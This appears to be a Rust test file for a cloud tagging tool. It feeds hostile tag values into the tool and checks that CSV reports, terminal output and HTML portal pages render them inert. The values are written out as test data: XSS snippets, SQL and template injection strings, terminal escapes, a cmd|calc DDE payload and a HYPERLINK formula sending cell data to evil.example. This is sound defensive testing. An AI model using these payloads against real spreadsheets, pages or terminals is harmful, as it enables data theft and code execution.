//! Tags that are made to hurt, on their way through reports, questions and pages: they stay text, and everything stays
//! whole.

use std::fs;
use std::path::Path;

use serde_json::{Value, json};

use super::ferries::Ferries;

/// The ARN of the resource that carries them.
const ARN: &str = "arn:aws:sqs:eu-central-1:012345678901:quay";

/// What a value may be, each with something else that must not come out of it.
fn values() -> Vec<String> {
    vec![
        "<img src=x onerror=alert(1)>".to_owned(),
        "<script>alert(1)</script>".to_owned(),
        "=HYPERLINK(\"https://evil.example/?\"&A1)".to_owned(),
        "+1+cmd|' /C calc'!A0".to_owned(),
        "-2+3".to_owned(),
        "@SUM(A1:A9)".to_owned(),
        "\t=1+1".to_owned(),
        "harbour\u{202e}gnitseuqer".to_owned(),
        "\u{1b}[2J\u{1b}]0;owned\u{7}".to_owned(),
        "a\r\n::error::owned".to_owned(),
        "\"; DROP TABLE x; --,,,\"".to_owned(),
        "{{7*7}}${{7*7}}".to_owned(),
        "javascript:alert(1)".to_owned(),
        "x".repeat(256),
    ]
}

/// Fifty tags: one key in three cases, and hostile ones.
fn tags() -> Value {
    let tag = |key: &str, value: &str| json!({"Key": key, "Value": value});
    let mut tags = vec![tag("service", "nobody"), tag("SERVICE", "=1+1"), tag("Service", "ferry-times")];
    tags.push(tag("OwnerTeam", &values()[2]));
    for (number, value) in values().iter().cycle().take(46).enumerate() {
        tags.push(tag(&format!("{}{number}", &value.chars().take(100).collect::<String>()), value));
    }
    assert_eq!(tags.len(), 50);
    json!(tags)
}

pub(super) fn inventory() -> Ferries {
    let ferries = Ferries::new();
    ferries.replace(
        "catalog/milepost.yaml",
        "sources:\n",
        "sources:\n  - {name: cloud, kind: aws-recorded, path: aws}\n",
    );
    let mut resources = vec![json!({"ResourceARN": ARN, "Tags": tags()})];
    for (number, value) in values().iter().enumerate() {
        // One that is known and has a hostile owner, and one that names a service nobody knows.
        let owned = json!([{"Key": "Service", "Value": "ferry-times"}, {"Key": "OwnerTeam", "Value": value}]);
        resources.push(json!({"ResourceARN": format!("{ARN}{number}-{value}"), "Tags": owned}));
        let claimed = json!([{"Key": "Service", "Value": value}]);
        resources.push(json!({"ResourceARN": format!("{ARN}-claimed-{number}"), "Tags": claimed}));
    }
    let answers = json!([
        {"operation": "organizations:ListAccounts", "collectedAt": "2026-11-20T03:00:00Z", "answer": {"Accounts": [
            {"Id": "012345678901", "Name": "prod", "State": "ACTIVE"}]}},
        {"operation": "tagging:GetResources", "account": "012345678901", "region": "eu-central-1",
         "collectedAt": "2026-11-20T03:00:00Z", "answer": {"ResourceTagMappingList": resources}},
    ]);
    ferries.write("catalog/aws/answers.json", &answers.to_string());
    ferries.write(
        "catalog/policy/tags.yaml",
        "required:\n  - {key: Service, from: serviceId}\n  - {key: OwnerTeam, from: ownerTeam}\n",
    );
    ferries
}

fn run(ferries: &Ferries, verb: &[&str]) -> (String, String) {
    let (_, stdout, stderr) = ferries.run(&[verb, &["--catalog", "catalog", "--now", "2026-11-20"]].concat());
    (stdout, stderr)
}

/// What a terminal, or the log of a build server, would obey or show in another order.
pub(super) fn obeyed(text: &str) -> Option<char> {
    text.chars().find(|letter| {
        letter.is_control() && !matches!(letter, '\n' | '\t')
            || matches!(letter, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
    })
}

#[test]
fn no_cell_of_a_report_is_run_by_a_spreadsheet() {
    let ferries = inventory();
    let (stdout, _) = run(&ferries, &["tags", "report", "--format", "csv"]);
    let table = stdout.strip_prefix('\u{feff}').expect("it is told to be UTF-8");
    let rows: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(table.as_bytes())
        .records()
        .collect::<Result<_, _>>()
        .expect("rows of equal length, whatever is in them");
    assert_eq!(rows.len(), 1 + 1 + 2 * values().len(), "a head, and a row for each resource");
    for cell in rows.iter().flat_map(csv::StringRecord::iter) {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
    }
    let whole = rows.iter().find(|row| row[0] == *ARN).expect("the resource with fifty tags");
    assert!(whole.iter().any(|cell| cell == format!("'{}", values()[2])), "{whole:?}");
}

#[test]
fn a_report_for_scripts_holds_values_exactly_and_tells_cases_apart() {
    let (stdout, _) = run(&inventory(), &["tags", "report", "--format", "json"]);
    let report: Value = serde_json::from_str(&stdout).expect("JSON");
    let resources = report["resources"].as_array().expect("a list");
    let found = |arn: &str, key: &str| {
        let resource = resources.iter().find(|resource| resource["arn"] == arn).expect("it is listed");
        resource["tags"][key].clone()
    };
    // The key that is written as policy writes it counts, not its namesakes.
    assert_eq!(found(ARN, "Service")["verdict"], "ok");
    assert_eq!(found(ARN, "OwnerTeam")["found"], *values()[2]);
    for (number, value) in values().iter().enumerate() {
        assert_eq!(found(&format!("{ARN}{number}-{value}"), "OwnerTeam")["found"], **value, "{value:?}");
    }
}

#[test]
fn who_answers_in_words_that_no_terminal_obeys() {
    let ferries = inventory();
    let (stdout, stderr) = run(&ferries, &["who", ARN]);
    assert!(stdout.contains("ferry-times"), "{stdout}{stderr}");
    assert_eq!((obeyed(&stdout), obeyed(&stderr)), (None, None), "{stdout}{stderr}");
    for (number, value) in values().iter().enumerate() {
        for thing in
            [format!("{ARN}{number}-{value}"), format!("Service={value}"), format!("OwnerTeam={value}")]
        {
            let (stdout, stderr) = run(&ferries, &["who", &thing]);
            assert_eq!((obeyed(&stdout), obeyed(&stderr)), (None, None), "{thing:?}: {stdout}{stderr}");
            assert!(
                !stdout.lines().chain(stderr.lines()).any(|line| line.starts_with("::")),
                "{stdout}{stderr}"
            );
        }
    }
}

/// Every file beneath `folder`.
fn files(folder: &Path) -> Vec<std::path::PathBuf> {
    let entries = fs::read_dir(folder).expect("a folder").map(|entry| entry.expect("an entry").path());
    entries.flat_map(|path| if path.is_dir() { files(&path) } else { vec![path] }).collect()
}

#[test]
fn no_page_of_the_portal_runs_or_reorders_anything() {
    let ferries = inventory();
    ferries.run(&["build", "catalog", "--now", "2026-11-20", "--out", "site"]);
    let site = ferries.0.path().join("site");
    let mut shown = 0;
    for path in files(&site).iter().filter(|path| path.extension().is_some_and(|end| end == "html")) {
        let page = fs::read_to_string(path).expect("text");
        let where_ = path.display();
        assert!(!page.contains("<img src=x") && !page.contains("<script>alert"), "{where_}");
        assert!(!page.contains("href=\"javascript:") && !page.contains("49$49"), "{where_}");
        assert!(!page.contains(['\u{202e}', '\u{1b}', '\u{7}']), "{where_}");
        shown += usize::from(page.contains("&lt;img src=x"));
    }
    assert!(shown > 0, "they are shown as text");
    for path in files(&site).iter().filter(|path| path.extension().is_some_and(|end| end == "csv")) {
        let table = fs::read(path).expect("bytes");
        let table = table.strip_prefix(b"\xef\xbb\xbf").expect("it is told to be UTF-8");
        let mut rows = csv::ReaderBuilder::new().has_headers(false).from_reader(table);
        for cell in
            rows.records().flat_map(|row| row.expect("a row").iter().map(str::to_owned).collect::<Vec<_>>())
        {
            let is_number = cell.parse::<f64>().is_ok();
            assert!(is_number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
    }
}
